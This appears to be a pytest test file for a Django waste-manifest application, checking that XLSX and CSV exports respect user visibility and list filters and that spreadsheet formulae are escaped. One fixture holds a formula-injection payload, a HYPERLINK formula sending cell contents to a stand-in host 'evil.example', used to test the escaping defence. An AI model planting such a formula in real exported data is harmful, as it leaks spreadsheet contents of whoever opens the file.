"""Export of the manifest list as XLSX or CSV: what each user sees, the list's filters, the formats."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext

from common import spreadsheets
from manifests import exports, services
from manifests.models import Status
from tests.factories import PASSWORD

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


# --- export ------------------------------------------------------------------------------------------


@pytest.fixture
def exported(chain):
    """Two Alpha manifests (one signed), Alpha named like a formula, and a Zeta draft Alpha cannot see."""
    w = chain
    w.alpha.name = HYPERLINK
    w.alpha.save()
    w.signed = services.sign(w.alice, w.draft(), PASSWORD)
    w.draft_hn = w.draft(lines=[w.line(quantity="10")])
    w.zeta_draft = w.draft(actor=w.zoe, site=w.zeta_site)
    return w


def body(response):
    """The bytes of a download, streamed (CSV) or not (XLSX); read once, kept on the response."""
    if not hasattr(response, "_body"):
        response._body = b"".join(response.streaming_content) if response.streaming else response.content
    return response._body


def export(client, **params):
    return client.get(reverse("manifests:export"), params)


def test_the_xlsx_export_has_the_visible_manifests_with_numbers_dates_and_no_formulae(client, exported):
    w = exported
    client.force_login(w.alice)
    response = export(client, format="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="hwms-manifests-')
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]  # one user's data
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    rows = list(sheet.iter_rows(min_row=2))
    by_number = {row[0].value: row for row in rows}
    assert set(by_number) == {w.signed.number, w.draft_hn.number}  # not Zeta's draft
    row = by_number[w.signed.number]
    _, status, created, pickup, generator, site, province, transporter, facility, total, discrepancy, completed = row
    assert generator.value == "'" + HYPERLINK and generator.data_type == "s"
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
    assert status.value == str(Status.READY.label)
    assert total.data_type == "n" and total.value == pytest.approx(140.5)
    assert isinstance(created.value, datetime) and created.number_format == "DD/MM/YYYY"
    assert created.value.date() == timezone.localdate()
    assert pickup.value.date() == w.signed.planned_pickup_date and pickup.number_format == "DD/MM/YYYY"
    assert (site.value, province.value, transporter.value, facility.value) == ("Alpha Hà Nội", "Thành phố Hà Nội", "Omega", "Omega")
    assert completed.value is None
    assert discrepancy.value == gettext("No")
    assert by_number[w.draft_hn.number][9].value == 10


def test_the_csv_export_has_a_bom_point_decimals_dates_and_escaped_formulae(client, exported):
    w = exported
    client.force_login(w.alice)
    response = export(client, format="csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert body(response).startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    assert len(rows) == 3
    by_number = {row[0]: row for row in rows[1:]}
    assert set(by_number) == {w.signed.number, w.draft_hn.number}
    row = by_number[w.signed.number]
    assert row[4] == "'" + HYPERLINK
    assert row[9] == "140.50" and by_number[w.draft_hn.number][9] == "10.00"
    assert row[2] == timezone.localdate().strftime("%d/%m/%Y")
    assert row[3] == w.signed.planned_pickup_date.strftime("%d/%m/%Y")
    assert "Hà Nội" in row[5]


def test_the_export_applies_the_list_filters(client, exported):
    w = exported
    client.force_login(w.alice)
    rows = list(csv.reader(io.StringIO(body(export(client, format="csv", status=Status.DRAFT)).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [w.draft_hn.number]


def test_the_export_uses_the_list_filterset(client, exported):
    """The list page's ManifestFilter, on the same query string: its number and date filters apply too."""
    w = exported
    client.force_login(w.alice)
    for number, expected in ((w.signed.number, [w.signed.number]), (w.zeta_draft.number, [])):
        rows = list(csv.reader(io.StringIO(body(export(client, format="csv", number=number)).decode("utf-8-sig"))))
        assert [row[0] for row in rows[1:]] == expected  # filtered, and still only what Alpha sees
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    rows = list(csv.reader(io.StringIO(body(export(client, format="csv", date_from=tomorrow)).decode("utf-8-sig"))))
    assert rows[1:] == []


def test_others_export_only_what_they_see(client, exported):
    w = exported
    client.force_login(w.zoe)
    rows = list(csv.reader(io.StringIO(body(export(client, format="csv")).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [w.zeta_draft.number]
    client.force_login(w.fred)  # the facility sees the signed manifest, not Alpha's drafts
    rows = list(csv.reader(io.StringIO(body(export(client, format="csv")).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [w.signed.number]


def test_the_export_is_bounded(client, exported, settings, monkeypatch):
    w = exported
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 1)
    client.force_login(w.alice)
    response = export(client, format="xlsx")
    assert response.status_code == 302
    assert "xlsx" not in response.get("Content-Type", "")


def test_the_number_of_queries_does_not_grow_with_the_manifests(client, chain, django_assert_max_num_queries):
    w = chain
    w.draft()
    client.force_login(w.alice)
    for fmt in ("xlsx", "csv"):
        with CaptureQueriesContext(connection) as few:
            assert export(client, format=fmt).status_code == 200
        for _ in range(10):
            w.draft(lines=[w.line(quantity="1.5"), w.line(w.lamps, "2")])
        with django_assert_max_num_queries(len(few.captured_queries)):
            response = export(client, format=fmt)
        assert response.status_code == 200


def test_export_dates_are_day_first(chain):
    assert spreadsheets.csv_text(date(2026, 3, 4)) == "04/03/2026"
    assert spreadsheets.csv_text(Decimal("1250.5")) == "1250.50"
    assert spreadsheets.escape_formula("+1-555") == "'+1-555" and spreadsheets.escape_formula("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheets.escape_formula("Công ty A") == "Công ty A" and spreadsheets.escape_formula(Decimal(-1)) == Decimal(-1)
